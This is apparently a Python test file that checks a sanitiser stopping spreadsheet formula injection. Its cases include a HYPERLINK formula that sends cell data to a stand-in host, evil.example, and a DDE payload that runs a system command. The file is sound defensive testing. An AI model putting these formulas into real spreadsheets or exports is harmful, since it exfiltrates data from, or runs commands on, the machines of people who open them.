"""Cells of a spreadsheet people open run nothing that someone typed."""

import pytest

from coopcare.shared.cells import inert


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"open")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"open")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna Rossi", "Anna Rossi"),
        ("-3.50", "-3.50"),
        ("+39", "+39"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_is_kept_as_text(typed, written):
    assert inert(typed) == written


@pytest.mark.parametrize("value", [None, -3, 2.5, True])
def test_values_that_are_not_text_stay_as_they_are(value):
    assert inert(value) is value
